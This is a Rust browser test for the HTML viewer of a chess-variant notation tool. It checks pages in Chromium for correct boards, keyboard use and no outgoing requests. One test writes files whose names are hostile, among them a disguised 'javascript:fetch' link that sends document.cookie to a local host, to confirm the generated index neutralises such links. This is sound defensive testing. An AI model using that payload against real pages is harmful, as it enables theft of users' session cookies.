//! The pages of `cescacs html` in a real browser: every corpus file becomes a page, and
//! `tests/browser/check-pages.js` drives Debian's chromium through playwright-core over them (no
//! request leaves a page, no console error, the board after N steps equals `cescacs board --svg
//! --ply N`, the spec's annotated example by keyboard only, references, flip (button and `f`),
//! the list of keys (`?`), the King in check glowing, a narrow window (the board and the current
//! move in view while stepping at 400 px), the warnings hidden and shown, printing, screenshots
//! read back in pixel samples).
//!
//! Needs `/usr/bin/chromium` and `tests/browser/node_modules` (`npm ci` there; `.ci/run` does
//! both). Without them the test is reported ignored, except when `CI` is set: then it fails.
//! With `CESCACS_BLESS_SCREENSHOT=1` the annotated page's screenshot is copied to
//! `docs/html-viewer.png` (the README shows it). A second trial opens the index of `html
//! --split` over files with hostile names and clicks its links (`tests/browser/check-index.js`).

use std::path::{Path, PathBuf};
use std::process::Command;

use libtest_mimic::{Arguments, Failed, Trial};

const CHROMIUM: &str = "/usr/bin/chromium";
const BIN: &str = env!("CARGO_BIN_EXE_cescacs");

fn browser_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser")
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// What is missing to run the browser, if anything.
fn missing() -> Option<String> {
    if !Path::new(CHROMIUM).exists() {
        return Some(format!("{CHROMIUM} is missing (apt-get install chromium)"));
    }
    if !browser_dir().join("node_modules/playwright-core").is_dir() {
        return Some("tests/browser/node_modules is missing (npm ci there)".to_string());
    }
    if Command::new("node").arg("--version").output().is_err() {
        return Some("node is missing".to_string());
    }
    None
}

fn main() {
    let args = Arguments::from_args();
    let mut trials = vec![
        Trial::test("corpus_pages_in_chromium", corpus_pages),
        Trial::test("an_index_of_hostile_file_names_in_chromium", hostile_index),
    ];
    if let (Some(why), None) = (missing(), std::env::var_os("CI")) {
        eprintln!("html_browser: ignored: {why}");
        trials = trials.into_iter().map(|t| t.with_ignored_flag(true)).collect();
    }
    libtest_mimic::run(&args, trials).exit();
}

/// Runs `node SCRIPT MANIFEST` in `tests/browser`: its report, or the problems it found.
fn node(script: &str, manifest: &Path) -> Result<String, Failed> {
    let run = Command::new("node")
        .arg(browser_dir().join(script))
        .arg(manifest)
        .current_dir(browser_dir())
        .output()
        .map_err(|e| e.to_string())?;
    let report = String::from_utf8_lossy(&run.stdout).into_owned();
    eprintln!("{report}{}", String::from_utf8_lossy(&run.stderr));
    if !run.status.success() {
        return Err(format!("the browser found problems:\n{report}").into());
    }
    Ok(report)
}

/// Issue 38: the index of `html --split` over files whose names would be a `javascript:` link,
/// a fragment, a query or an escape (`tests/browser/check-index.js`): each of its links clicked
/// leads to a page of the folder, and no request leaves for anything but the folder's files.
fn hostile_index() -> Result<(), Failed> {
    if let Some(why) = missing() {
        return Err(format!("CI is set but the browser test cannot run: {why}").into());
    }
    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR")).join("html-browser-names");
    let _ = std::fs::remove_dir_all(&tmp);
    let inputs = tmp.join("in");
    std::fs::create_dir_all(&inputs).map_err(|e| e.to_string())?;
    let names = [
        "javascript:fetch('http:'+String.fromCharCode(47,47)+'127.0.0.1:8765'+String.fromCharCode(47)+'x?'+document.cookie)<!--.ctl-pgn",
        "a#b.ctl-pgn",
        "100%41.ctl-pgn",
        "what?.ctl-pgn",
        "Moià i Martí.ctl-pgn",
    ];
    let game = "[Variant \"C'escacs\"]\n\n1. E7-E13 :\n*\n";
    for name in names {
        std::fs::write(inputs.join(name), format!("{game}\n{game}")).map_err(|e| e.to_string())?;
    }
    let out = tmp.join("out");
    let run = Command::new(BIN)
        .args(["html", "--split", "-o"])
        .arg(&out)
        .arg(&inputs)
        .output()
        .map_err(|e| e.to_string())?;
    if !run.status.success() {
        return Err(
            format!("cescacs html --split: {}", String::from_utf8_lossy(&run.stderr)).into()
        );
    }
    let dir = out.canonicalize().map_err(|e| e.to_string())?;
    let manifest = serde_json::json!({
        "index": dir.join("index.html"),
        "dir": dir,
        "links": names.len() * 2,
        "scratch": tmp.canonicalize().map_err(|e| e.to_string())?,
    });
    let manifest_path = tmp.join("manifest.json");
    std::fs::write(&manifest_path, manifest.to_string()).map_err(|e| e.to_string())?;
    node("check-index.js", &manifest_path).map(drop)
}

/// The pieces of an SVG of `cescacs-diagram`: `HEX:LETTER`, sorted, space separated.
fn svg_pieces(svg: &str) -> String {
    let mut out: Vec<String> = svg
        .split("<g class=\"piece\"")
        .skip(1)
        .filter_map(|g| {
            let hex = g.split("data-hex=\"").nth(1)?.split('"').next()?;
            let piece = g.split("data-piece=\"").nth(1)?.split('"').next()?;
            Some(format!("{hex}:{piece}"))
        })
        .collect();
    out.sort();
    out.join(" ")
}

/// `cescacs board --svg` of every ply of a game's main line, until it cannot be drawn.
fn boards(file: &Path, game: usize, plies: usize) -> Vec<String> {
    let mut out = Vec::new();
    for ply in 0..=plies {
        let run = Command::new(BIN)
            .args(["board", "--svg", "--ply", &ply.to_string(), "--game", &game.to_string()])
            .arg(file)
            .output()
            .expect("cescacs runs");
        if !run.status.success() {
            break;
        }
        out.push(svg_pieces(&String::from_utf8_lossy(&run.stdout)));
    }
    out
}

/// The games of a file as the page numbers them (empty pseudo-games left out): the number of
/// each for `cescacs board --game`, and its main-line plies.
fn games(text: &str) -> Vec<(usize, usize)> {
    let parsed = ctl_an::parse_file(text);
    parsed
        .file
        .games
        .iter()
        .enumerate()
        .filter(|(_, g)| !g.tags.is_empty() || !g.movetext.pairs.is_empty())
        .map(|(i, g)| (i + 1, g.movetext.ply_count()))
        .collect()
}

fn corpus_pages() -> Result<(), Failed> {
    if let Some(why) = missing() {
        return Err(format!("CI is set but the browser test cannot run: {why}").into());
    }
    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR")).join("html-browser");
    let _ = std::fs::remove_dir_all(&tmp);
    std::fs::create_dir_all(&tmp).map_err(|e| e.to_string())?;
    let mut pages = Vec::new();
    for (dir, status) in [("valid", 0), ("invalid", 1), ("generated", 0)] {
        let out = tmp.join(dir);
        let run = Command::new(BIN)
            .arg("html")
            .arg(root().join("corpus").join(dir))
            .arg("-o")
            .arg(format!("{}/", out.display()))
            .output()
            .map_err(|e| e.to_string())?;
        if run.status.code() != Some(status) {
            return Err(format!(
                "cescacs html corpus/{dir} exited {:?}, not {status} (as check):\n{}",
                run.status.code(),
                String::from_utf8_lossy(&run.stderr)
            )
            .into());
        }
        let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("corpus").join(dir))
            .map_err(|e| e.to_string())?
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|e| e == "ctl-pgn"))
            .collect();
        files.sort();
        for file in files {
            let page = out.join(file.with_extension("html").file_name().unwrap_or_default());
            let html =
                std::fs::read_to_string(&page).map_err(|e| format!("{}: {e}", page.display()))?;
            for outside in ["src=\"http", "href=\"http", "<link", "@import"] {
                if html.contains(outside) {
                    return Err(format!("{}: `{outside}` on the page", page.display()).into());
                }
            }
            // `url(` only names a part of the page (`url(#id)`).
            if html.match_indices("url(").any(|(at, _)| !html[at..].starts_with("url(#")) {
                return Err(
                    format!("{}: `url(` of something else on the page", page.display()).into()
                );
            }
            let text = String::from_utf8_lossy(&std::fs::read(&file).map_err(|e| e.to_string())?)
                .into_owned();
            pages.push((file, page, games(&text)));
        }
    }
    // `cescacs board` for every ply of every game, on both cores.
    let jobs: Vec<(usize, usize, PathBuf, usize, usize)> = pages
        .iter()
        .enumerate()
        .flat_map(|(p, (file, _, games))| {
            games
                .iter()
                .enumerate()
                .map(move |(i, &(number, plies))| (p, i, file.clone(), number, plies))
        })
        .collect();
    let results = std::sync::Mutex::new(Vec::new());
    let next = std::sync::atomic::AtomicUsize::new(0);
    std::thread::scope(|s| {
        for _ in 0..4 {
            s.spawn(|| {
                loop {
                    let k = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    let Some((p, i, file, number, plies)) = jobs.get(k) else { break };
                    let b = boards(file, *number, *plies);
                    results.lock().unwrap_or_else(|e| e.into_inner()).push((*p, *i, b));
                }
            });
        }
    });
    let mut results = results.into_inner().unwrap_or_else(|e| e.into_inner());
    results.sort_by_key(|r| (r.0, r.1));
    let mut entries: Vec<serde_json::Value> = pages
        .iter()
        .map(|(_, page, _)| serde_json::json!({ "path": page.canonicalize().unwrap_or(page.clone()), "games": [] }))
        .collect();
    for (p, i, b) in results {
        if let Some(games) = entries[p]["games"].as_array_mut() {
            games.push(serde_json::json!({ "index": i, "boards": b }));
        }
    }
    let find = |name: &str| {
        pages
            .iter()
            .position(|(f, _, _)| f.ends_with(name))
            .map(|i| entries[i].clone())
            .ok_or_else(|| format!("corpus/{name} is missing"))
    };
    let shots = tmp.join("screenshots");
    std::fs::create_dir_all(&shots).map_err(|e| e.to_string())?;
    let manifest = serde_json::json!({
        "shots": shots.canonicalize().map_err(|e| e.to_string())?,
        "annotated": find("valid/spec-fools-mate-variations-X01-V-en.ctl-pgn")?,
        "references": find("valid/edge-deep-variations-and-references.ctl-pgn")?,
        "pages": entries,
    });
    let manifest_path = tmp.join("manifest.json");
    std::fs::write(&manifest_path, manifest.to_string()).map_err(|e| e.to_string())?;
    node("check-pages.js", &manifest_path)?;
    if std::env::var_os("CESCACS_BLESS_SCREENSHOT").is_some() {
        std::fs::copy(shots.join("annotated.png"), root().join("docs/html-viewer.png"))
            .map_err(|e| e.to_string())?;
    }
    Ok(())
}
